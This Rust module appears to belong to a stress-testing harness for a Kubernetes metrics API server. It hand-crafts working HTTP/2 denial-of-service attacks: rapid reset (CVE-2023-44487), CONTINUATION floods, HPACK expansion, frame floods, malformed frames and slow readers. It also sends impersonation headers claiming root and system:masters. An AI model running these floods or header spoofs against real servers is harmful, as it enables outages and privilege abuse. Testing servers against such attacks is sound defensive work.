//! HTTP/2 frames written by hand: resets, continuations, pings and settings without end, and heads that unfold to far
//! more than was sent.

use std::time::Duration;

use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
    time::{Instant, timeout, timeout_at},
};
use tokio_rustls::client::TlsStream;

use crate::{
    apiserver::SERVICE,
    field::{Field, PATIENCE},
    tally::{
        Caller::{self, Reader, Unwelcome},
        Outcome,
    },
};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

// Types and flags of RFC 9113, section 6.
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// How long the server may say nothing more before an attacker gives up on it.
const QUIET: Duration = Duration::from_secs(2);

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("a frame's length").to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A header field as a literal that is not indexed (RFC 7541, section 6.2.2); short names and values only.
fn field_line(name: &str, value: &str) -> Vec<u8> {
    let length =
        |text: &str| u8::try_from(text.len()).ok().filter(|&length| length < 127).expect("a short text");
    [&[0, length(name)], name.as_bytes(), &[length(value)], value.as_bytes()].concat()
}

/// A request for all pods, with a token or none.
fn head(token: Option<&str>) -> Vec<u8> {
    let mut head = [
        field_line(":method", "GET"),
        field_line(":scheme", "https"),
        field_line(":authority", SERVICE),
        field_line(":path", "/apis/metrics.k8s.io/v1/pods"),
    ]
    .concat();
    head.extend(match token {
        Some(token) => field_line("authorization", &format!("Bearer {token}")),
        None => {
            [field_line("x-remote-user", "root"), field_line("x-remote-group", "system:masters")].concat()
        }
    });
    head
}

/// A connection on which frames are written as they come, with these settings.
async fn open(field: &Field, settings: &[u8]) -> Option<TlsStream<TcpStream>> {
    let mut stream = field.target.connect(field.target.tls(None, b"h2")).await.ok()?;
    stream.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, settings)].concat()).await.ok()?;
    Some(stream)
}

/// Reads frames until the server closes or is quiet, and returns the outcome of each response's head; without one,
/// how it ended.
async fn outcomes(stream: &mut TlsStream<TcpStream>) -> Vec<Outcome> {
    let (mut found, mut is_closed) = (Vec::new(), false);
    loop {
        let mut head = [0; 9];
        match timeout(QUIET, stream.read_exact(&mut head)).await {
            Ok(Ok(_)) => {}
            Ok(Err(_)) => break is_closed = true,
            Err(_) => break,
        }
        let length = u32::from_be_bytes([0, head[0], head[1], head[2]]);
        let mut payload = vec![0; usize::try_from(length).expect("24 bits")];
        if stream.read_exact(&mut payload).await.is_err() {
            break is_closed = true;
        }
        match (head[3], payload.first()) {
            // Success and failure stand in the static table (RFC 7541, appendix A); any other status is a refusal.
            (HEADERS, Some(0x88..=0x8a)) => found.push(Outcome::Answered(200)),
            (HEADERS, Some(0x8e)) => found.push(Outcome::Answered(500)),
            (HEADERS, _) => found.push(Outcome::Answered(400)),
            (GOAWAY, _) => is_closed = true,
            _ => {}
        }
    }
    match found.is_empty() {
        false => found,
        true if is_closed => vec![Outcome::CutOff],
        true => vec![Outcome::Silent],
    }
}

/// Writes all of it, notes what was answered, and leaves.
async fn flood(field: &Field, attack: &'static str, settings: &[u8], bytes: &[u8]) {
    let sent = async {
        let Some(mut stream) = open(field, settings).await else {
            return vec![Outcome::CutOff];
        };
        // The server may close in the middle.
        let _ = timeout(PATIENCE, stream.write_all(bytes)).await;
        outcomes(&mut stream).await
    };
    for outcome in timeout(PATIENCE * 2, sent).await.unwrap_or(vec![Outcome::Silent]) {
        field.note(attack, Unwelcome, outcome);
    }
}

/// Streams that are opened and taken back at once (CVE-2023-44487).
pub(crate) async fn rapid_resets(field: &Field) {
    let streams = (0..500_u32).flat_map(|index| {
        let id = index * 2 + 1;
        let opened = frame(HEADERS, END_STREAM | END_HEADERS, id, &head(None));
        [opened, frame(RST_STREAM, 0, id, &8_u32.to_be_bytes())].concat()
    });
    flood(field, "rapid resets", &[], &streams.collect::<Vec<u8>>()).await;
}

/// A head that goes on and on (CVE-2023-45288).
pub(crate) async fn continuations(field: &Field) {
    let line = field_line("x-more", &"y".repeat(120));
    let piece = line.repeat(120);
    let mut bytes = frame(HEADERS, END_STREAM, 1, &head(None));
    for _ in 0..256 {
        bytes.extend(frame(CONTINUATION, 0, 1, &piece));
    }
    flood(field, "continuations", &[], &bytes).await;
}

/// One large entry of the dynamic table, named again and again in one byte each.
pub(crate) async fn unfolding_heads(field: &Field) {
    let value = "z".repeat(3900);
    // Literal with incremental indexing; the length takes a prefix of seven bits and two more bytes.
    let rest = value.len() - 127;
    let length =
        [0x7f, u8::try_from(rest % 128).expect("7 bits") | 0x80, u8::try_from(rest / 128).expect("7 bits")];
    let entry = [&[0x40, 1, b'x'], &length[..], value.as_bytes()].concat();
    let block = [head(None), entry, vec![0xbe; 8000]].concat();
    flood(field, "unfolding heads", &[], &frame(HEADERS, END_STREAM | END_HEADERS, 1, &block)).await;
}

/// Frames that each ask for an answer, or for work.
pub(crate) async fn chatter(field: &Field) {
    let (attack, piece) = match field.number() % 4 {
        0 => ("pings", frame(PING, 0, 0, &[1; 8])),
        1 => ("settings", frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0])),
        2 => ("priorities", frame(PRIORITY, 0, 1, &[0, 0, 0, 3, 9])),
        _ => ("empty data", frame(DATA, 0, 1, &[])),
    };
    flood(field, attack, &[], &piece.repeat(20_000)).await;
}

/// Frames that break the protocol.
pub(crate) async fn broken_frames(field: &Field) {
    let shapes = [
        frame(HEADERS, END_HEADERS, 0, &head(None)),
        frame(HEADERS, END_HEADERS, 2, &head(None)),
        frame(DATA, 0, 7, &[0; 16_384]),
        frame(WINDOW_UPDATE, 0, 0, &0_u32.to_be_bytes()),
        frame(SETTINGS, 0, 0, &[0; 5]),
        frame(HEADERS, END_STREAM | END_HEADERS, 1, &[0xff; 64]),
        frame(CONTINUATION, END_HEADERS, 1, &head(None)),
        [&[0xff; 9][..], &[0; 4096]].concat(),
    ];
    let shape: &Vec<u8> = field.one(&shapes);
    flood(field, "broken frames", &[], shape).await;
}

/// Asks for all pods on many streams of one connection, and takes nothing of the answers until it is cut off or the
/// time is over.
pub(crate) async fn slow_reader(field: &Field, token: &str, until: Instant) {
    // INITIAL_WINDOW_SIZE of a few bytes.
    let settings = [0, 4, 0, 0, 0, 16];
    let outcome = async {
        let mut stream = open(field, &settings).await?;
        for index in 0..10_u32 {
            let opened = frame(HEADERS, END_STREAM | END_HEADERS, index * 2 + 1, &head(Some(token)));
            stream.write_all(&opened).await.ok()?;
        }
        let mut buffer = vec![0; 4096];
        loop {
            match timeout_at(until, stream.read(&mut buffer)).await {
                Ok(Ok(0) | Err(_)) => return Some(Outcome::CutOff),
                Ok(Ok(_)) => {}
                Err(_) => return Some(Outcome::Silent),
            }
        }
    };
    field.note("slow readers", Caller::Reader, outcome.await.unwrap_or(Outcome::CutOff));
}

/// The same over HTTP/1.1: it asks for all pods and never reads.
pub(crate) async fn deaf_reader(field: &Field, token: &str, until: Instant) {
    let asked = async {
        let mut stream = field.target.connect(field.target.tls(None, b"http/1.1")).await.ok()?;
        let request = format!(
            "GET /apis/metrics.k8s.io/v1/pods HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {token}\r\n\r\n"
        );
        stream.write_all(request.repeat(10).as_bytes()).await.ok()?;
        tokio::time::sleep_until(until).await;
        Some(Outcome::Silent)
    };
    field.note("deaf readers", Reader, asked.await.unwrap_or(Outcome::CutOff));
}
